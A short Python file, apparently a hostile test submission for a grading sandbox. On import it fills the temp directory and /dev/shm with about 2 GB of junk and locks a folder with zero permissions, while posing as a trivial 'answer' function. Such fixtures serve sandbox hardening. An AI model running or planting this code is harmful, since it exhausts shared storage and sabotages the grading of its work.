"""Fill every place that can be written.

status: graded
after: graded
"""

import os
import tempfile

for folder in (tempfile.gettempdir(), "/dev/shm"):
    os.makedirs(f"{folder}/locked/deep", exist_ok=True)
    for i in range(100):
        try:
            with open(f"{folder}/{i}", "wb") as file:
                for _ in range(20):
                    file.write(b"x" * 10**6)
        except OSError:
            break
    os.chmod(f"{folder}/locked", 0)


def answer(x):
    return x
